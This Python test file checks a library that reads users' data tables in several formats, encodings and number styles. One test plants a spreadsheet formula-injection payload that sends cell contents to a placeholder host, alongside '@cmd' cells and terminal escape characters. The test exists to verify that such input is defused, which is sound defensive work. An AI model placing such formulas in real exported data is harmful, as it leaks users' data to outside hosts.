"""Formats of a user's table, and the names of its columns."""

import bz2
import csv
import gzip
import io
import lzma
from dataclasses import replace

import numpy as np
import pandas as pd
import pytest
from cases import each, some
from hostile_files import GOOD, npz, parquet
from own_tables import iris_csv, iris_table, lines, own_spec, read, read_sniffed, sniff, sniff_file, table
from sklearn.datasets import dump_svmlight_file

from dsgcore.data import DataError
from dsgcore.data.converting import convert_file
from dsgcore.data.reading import File, Limits, Recipe, Source, svmlight
from dsgcore.experiments import load_split


@each("encoding", some(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32"], 3))
@each("delimiter, decimal", [(",", "."), (";", ","), ("\t", "."), ("\t", ","), ("|", "."), (" ", ".")])
@each("header", [True, False])
def test_a_text_is_read_whatever_separates_its_cells(delimiter, decimal, encoding, header):
    content = iris_csv(delimiter, decimal, encoding, header)
    if delimiter == " ":
        content = content.decode(encoding).replace('"', "").replace("l l", "l_l").replace("l w", "l_w").encode(encoding)
    dataset = read_sniffed(content)
    X, _ = iris_table()
    np.testing.assert_array_equal(dataset.X, X.astype(np.float32))
    assert dataset.class_names == ("setosa", "versicolor", "virginica")
    assert np.bincount(dataset.y).tolist() == [50, 50, 50]
    assert len(dataset.sha256) == 64


@each("encoding", ["utf-8", "utf-8-sig", "utf-16"])
@each("said, delimiter, decimal", [("sep=;", ";", ","), ('"sep=,"', ",", "."), ("SEP=|", "|", ".")])
@each("header", [True, False])
def test_a_first_line_that_names_the_delimiter_is_no_row(said, delimiter, decimal, encoding, header):
    plain = iris_csv(delimiter, decimal, header=header)
    content = (f"{said}\r\n".encode() + plain).decode().encode(encoding)
    found, expected = read_sniffed(content), read_sniffed(plain)
    np.testing.assert_array_equal(found.X, expected.X)
    np.testing.assert_array_equal(found.y, expected.y)
    with pytest.raises(DataError, match=f"line {3 + header} has 3 cells, and the first has 2"):
        read_sniffed(lines(said, *["a;b"] * header, "1;2", "3;4;5"), delimiter=";", header=header)


def test_all_formats_give_the_same_points():
    X, y = iris_table()
    codes = np.unique(y, return_inverse=True)[1]
    frame = pd.DataFrame(X, columns=["a", "b", "c", "d"])
    svmlight = io.BytesIO()
    dump_svmlight_file(X, codes, svmlight, zero_based=False)
    files = {
        "a.csv": iris_csv(),
        "a.parquet": parquet(frame=frame.assign(species=y)),
        "a.libsvm": svmlight.getvalue(),
        "a.npz": npz(X=X, y=y, split=np.zeros(150), about=np.zeros(3), letters=np.array(["a"] * 150)),
    }
    for name, content in files.items():
        for packed in (content, gzip.compress(content), bz2.compress(content), lzma.compress(content)):
            dataset = read_sniffed(packed, name)
            np.testing.assert_array_equal(dataset.X, X.astype(np.float32), err_msg=name)
            np.testing.assert_array_equal(dataset.y, codes, err_msg=name)
            assert dataset.X.dtype == np.float32
            assert dataset.X.flags.c_contiguous


def test_a_packed_file_of_several_streams_is_read_to_its_end():
    whole = read_sniffed(GOOD)
    for pack in (gzip.compress, bz2.compress, lzma.compress):
        np.testing.assert_array_equal(read_sniffed(pack(GOOD[:100]) + pack(GOOD[100:])).X, whole.X)


def test_the_format_is_told_from_the_bytes_not_from_the_name():
    assert sniff(parquet(), "data.csv").format == "parquet"
    assert sniff(GOOD, "data.parquet").format == "delimited"
    assert sniff(b"1 1:2\n2 2:1\n", "data.csv").format == "svmlight"


@each("limit", [1, 50, 6])
def test_sparse_text_keeps_its_columns(limit):
    content = b"# first\n1 qid:3 2:0.5 6:1 # a comment\n\n-1 1:2\n" * limit
    dataset = read_sniffed(content, "a.svm")
    np.testing.assert_array_equal(dataset.X, [[0, 0.5, 0, 0, 0, 1], [2, 0, 0, 0, 0, 0]] * limit)
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(svmlight, "LINES", 3)
        np.testing.assert_array_equal(read_sniffed(content, "a.svm").X, dataset.X)
    zero_based = read_sniffed(b"1 0:1 2:3\n2 1:1\n", "a.svm")
    np.testing.assert_array_equal(zero_based.X, [[1, 0, 3], [0, 1, 0]])
    without_first = read_sniffed(b"1 2:1 4:3\n2 3:1\n", "a.svm")  # its columns keep their places
    np.testing.assert_array_equal(without_first.X, [[0, 1, 0, 3], [0, 0, 1, 0]])


def test_a_wrong_encoding_is_told_and_another_can_be_given():
    content = lines("größe,label", *(f"{i},{'ja' if i % 2 else 'nein'}" for i in range(20)), encoding="cp1252")
    recipe = sniff(content, "a.csv")
    assert recipe.encoding == "cp1252"
    assert read(content, recipe).feature_names == ("größe",)
    with pytest.raises(DataError, match=r"line 1 .* not utf-8"):
        read(content, replace(recipe, encoding="utf-8"))


def test_quotes_hold_delimiters_and_line_ends():
    content = lines('"a","b, c",label', '1,"2",x', '"3","4","y\nz"', "5,6,x", '7,"8",x')
    dataset = read_sniffed(content)
    np.testing.assert_array_equal(dataset.X, [[1, 2], [3, 4], [5, 6], [7, 8]])
    assert dataset.feature_names == ("a", "b, c")
    assert dataset.class_names == ("x", "y z")


# --- names


def test_repeated_and_missing_names_are_told():
    content = lines("a,a,,label", *(f"{i},{i % 3},{i % 5},{'xy'[i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert dataset.feature_names == ("a", "a (2)", "column 3")
    assert any("same name" in sentence for sentence in dataset.report)
    assert any("no name" in sentence for sentence in dataset.report)


@each("names", [["x", "text", "list", "label"], ["x", "x", "list", "label"], ["x", "y", "x", "label"]])
def test_a_table_with_lists_is_read_whole_whatever_its_row_groups_and_names(names):
    pa, pq = pytest.importorskip("pyarrow"), pytest.importorskip("pyarrow.parquet")
    columns = [np.arange(40.0), [f"word {i % 7}" for i in range(40)], [[i] for i in range(40)], np.arange(40) % 2]
    content = io.BytesIO()
    pq.write_table(pa.table([pa.array(column) for column in columns], names=names), content, row_group_size=10)
    recipe = Recipe(format="parquet")
    frame = File(Source.of_bytes(content.getvalue(), "a.parquet")).table(recipe).frame
    np.testing.assert_array_equal(frame.iloc[:, 0], columns[0])
    assert [list(frame.iloc[:, 1]), list(frame.iloc[:, 3])] == [columns[1], list(columns[3])]
    assert (frame.iloc[:, 2] == "(nested)").all()


FORMULA = '=HYPERLINK("http://x/?"&A1)'


def test_formulas_are_text_and_cannot_be_exported_as_formulas():
    rows = [["=1+1", "@cmd", "-x", "label"]] + [
        [FORMULA if i % 2 else "+2", i, -i, "=A1" if i % 2 else "-1"] for i in range(20)
    ]
    text = io.StringIO()
    csv.writer(text).writerows(rows)
    content = text.getvalue().encode()
    recipe = sniff(content, "a.csv")
    assert dict(recipe.roles) == {"=1+1": "category", "label": "label"}
    dataset = read(content, recipe)
    names = (*dataset.feature_names, *dataset.class_names)
    assert "'=1+1: 2" in names or "'=1+1: +2" in names
    assert not any(name.startswith(("=", "+", "@")) for name in names)
    assert dataset.class_names == ("-1", "'=A1")  # a number is one
    head = File(Source.of_bytes(content, "a.csv")).table(recipe).head()
    cells = [*map(str, head.columns), *head.to_numpy().ravel()]
    assert not any(cell.startswith(("=", "@", "-x")) for cell in cells)


def test_control_characters_never_reach_a_page():
    bell = "y\x07"
    content = lines('"a\x1b[2J\u202e\nb",label', *(f"{i},{['x', bell][i % 2]}" for i in range(20)))
    dataset = read_sniffed(content)
    assert all(name.isprintable() for name in (*dataset.feature_names, *dataset.class_names, *dataset.report))


# --- columns of a user's table: the use of each kind, and statistics that come from training rows only


def test_roles_are_guessed():
    recipe = sniff(parquet(frame=table()), "a.parquet")
    guessed = {"id": "index", "color": "category", "when": "date", "note": "text", "key": "ignore", "kind": "label"}
    assert dict(recipe.roles) == guessed
    both = "u,a,v\n" + "\n".join(f"{i % 2},{i}.5,{i % 3}" for i in range(30))  # of two that could, the last one
    assert sniff(both.encode(), "a.csv").column("label") == "v"


def test_categories_become_columns_of_zeros_and_ones():
    frame = table()
    frame.loc[3, "color"] = None
    dataset = read_sniffed(parquet(frame=frame[["size", "color", "kind"]]))
    assert dataset.feature_names == ("size", "color: blue", "color: green", "color: red")
    expected = pd.get_dummies(frame["color"])[["blue", "green", "red"]].to_numpy()
    np.testing.assert_array_equal(dataset.X[:, 1:], expected)
    assert not dataset.X[3, 1:].any()
    assert any("3 categories" in sentence and "1 rows without one" in sentence for sentence in dataset.report)


def test_too_many_categories_are_refused():
    frame = pd.DataFrame({"x": [f"v{i}" for i in range(120)], "label": ["a", "b"] * 60})
    content = parquet(frame=frame)
    recipe = Recipe(format="parquet", roles=(("label", "label"), ("x", "category")))
    with pytest.raises(DataError, match="column 'x' must have at most 50 categories, got 120"):
        read(content, recipe)
    assert read(content, recipe, limits=Limits(categories=200)).X.shape == (120, 120)


@each("missing, filled", [("mean", 3.0), ("median", 2.0), ("most frequent", 1.0), ("drop", None)])
def test_missing_numbers_are_replaced_or_dropped_and_told(missing, filled):
    values = [1, 1, 2, 4, 7, None]
    content = lines("x,z,label", *(f"{'' if v is None else v},{i},{'ab'[i % 2]}" for i, v in enumerate(values)))
    dataset = read_sniffed(content, missing=missing)
    assert any("1 missing number in 'x'" in sentence for sentence in dataset.report)
    if filled is None:
        assert dataset.X[:, 0].tolist() == values[:-1]
        assert len(dataset.y) == 5
    else:
        assert dataset.X[:, 0].tolist() == [*values[:-1], filled]


def test_empty_columns_are_left_out_and_told():
    content = lines("x,empty,label", *(f"{i},,{'ab'[i % 2]}" for i in range(9)))
    dataset = read_sniffed(content)
    assert dataset.feature_names == ("x",)
    assert any("holds no value and is left out" in sentence for sentence in dataset.report)


def test_unknown_columns_in_a_recipe_are_refused():
    with pytest.raises(DataError, match="gives 'bogus' the role ignore"):
        read(GOOD, Recipe(roles=(("bogus", "ignore"), ("label", "label"))))


# --- what depends on the training rows


def test_text_and_means_are_learned_from_training_rows_only():
    frame = table()
    frame.loc[::5, "size"] = np.nan
    content = parquet(frame=frame)
    recipe = replace(sniff(content, "a.parquet"), text_dimensions=4)
    spec, files = own_spec(content, recipe, scaling="none")
    split = load_split(spec, files=files)
    names = read(content, recipe).feature_names
    size, text = names.index("size"), [j for j, name in enumerate(names) if name.startswith("note: direction")]
    assert len(text) == 4
    train = frame["size"].to_numpy()[split.train_rows]
    filled = split.X_test[np.isnan(frame["size"].to_numpy()[split.test_rows]), size]
    np.testing.assert_allclose(filled, np.float32(np.nanmean(train)), rtol=1e-6)
    # Other words in the test rows change no training point.
    other = frame.copy()
    other.loc[split.test_rows, "note"] = "completely different words here"
    other.loc[split.test_rows, "size"] = 1e6
    changed, more = own_spec(parquet(frame=other), recipe, scaling="none")
    np.testing.assert_array_equal(load_split(changed, files=more).X_train, split.X_train)


# --- numbers with thousands set apart, recognised by column


FORMS = {
    "1.234,56": ("1.234,56", "12,5", "1.250.000,25", "7"),
    "1,234.56": ("1,234.56", "12.5", "1,250,000.25", "7"),
    "1'234.56": ("1'234.56", "12.5", "1'250'000.25", "7"),
    "1,23,456.5": ("1,23,456.5", "12.5", "12,50,000.25", "7"),
    "1 234,56": ("1 234,56", "12,5", "1 250 000,25", "7"),
}
VALUES = [1234.56, 12.5, 1250000.25, 7.0]


def columns_of(cells, delimiter=";"):
    rows = [f"{cells[i % 4]}{delimiter}{i}{delimiter}{'ab'[i % 2]}" for i in range(40)]
    return lines(delimiter.join(("price", "z", "label")), *rows)


@each("form", FORMS)
def test_thousands_separators_are_recognised_by_column_and_said(form):
    data = read_sniffed(columns_of(FORMS[form]))
    assert data.feature_names == ("price", "z")
    first = 123456.5 if form.startswith("1,23,") else VALUES[0]
    np.testing.assert_allclose(data.X[:4, 0], [first, *VALUES[1:]], rtol=1e-6)
    np.testing.assert_array_equal(data.X[:, 1], np.arange(40))
    assert any("'price': numbers written like" in sentence for sentence in data.report)
    assert data.left_out == ()


def test_each_column_has_its_own_mark():
    rows = [
        f'"{a}";"{b}";{i / 4:g};{"ab"[i % 2]}' for i, (a, b) in enumerate([("1.234,5", "1,234.5"), ("2,5", "2.5")] * 10)
    ]
    data = read_sniffed(lines("german;english;plain;label", *rows))
    np.testing.assert_allclose(data.X[:2], [[1234.5, 1234.5, 0.0], [2.5, 2.5, 0.25]])


def test_thousands_without_decimals_follow_the_tables_own_mark():
    rows = [f"{1 + i % 9}.{100 + i};0,{i + 1};{'ab'[i % 2]}" for i in range(20)]
    data = read_sniffed(lines("whole;share;label", *rows))
    assert data.X[0].tolist() == [1100.0, pytest.approx(0.1)]
    rows = [f'"{1 + i % 9},{100 + i}",0.{i + 1},{"ab"[i % 2]}' for i in range(20)]
    data = read_sniffed(lines("whole,share,label", *rows))
    assert data.X[0].tolist() == [1100.0, pytest.approx(0.1)]


@each("cell", ["10.0.{}.1", "12.05.20{}", "v1.{}", "030 123 4{}", "12-{}"])
def test_what_only_looks_like_numbers_is_left_alone(cell):
    rows = [f"{cell.format(10 + i)};{i};{'ab'[i % 2]}" for i in range(40)]
    recipe = sniff(lines("a;z;label", *rows), "a.csv")
    assert not recipe.role("a").startswith("number")


def test_a_label_of_such_numbers_is_cut_into_bins():
    rows = [f"{i};{1 + i // 10}.{100 + 7 * i},5" for i in range(60)]
    data = read_sniffed(lines("x;price", *rows), labels="ordinal")
    assert data.class_names[0].startswith("bin 1 (from 1100.5")
    assert np.bincount(data.y).tolist() == [12] * 5


def test_pieces_and_runs_read_what_the_whole_does(tmp_path):
    # The first piece alone would be plain numbers, of another size.
    cells = ["1.234"] * 20 + ["1.234,5", "1.250.000,25"] * 10
    content = lines("price;label", *(f"{cell};{'ab'[i % 2]}" for i, cell in enumerate(cells)))
    recipe = sniff(content, "a.csv", labels="classes")
    whole = read(content, recipe, labels="classes")
    assert whole.X[0, 0] == 1234.0
    (tmp_path / "a.csv").write_bytes(content)
    assert sniff_file(tmp_path / "a.csv") == recipe
    convert_file(tmp_path / "a.csv", tmp_path / "out", recipe)
    file = File.of_path(tmp_path / "out")
    np.testing.assert_array_equal(file.points(file.recipe("classes"), "classes").X, whole.X)
    spec, files = own_spec(content, recipe, scaling="none", n_labeled=10)
    split = load_split(spec, files=files)
    assert split.X_train.max() == np.float32(1250000.25)
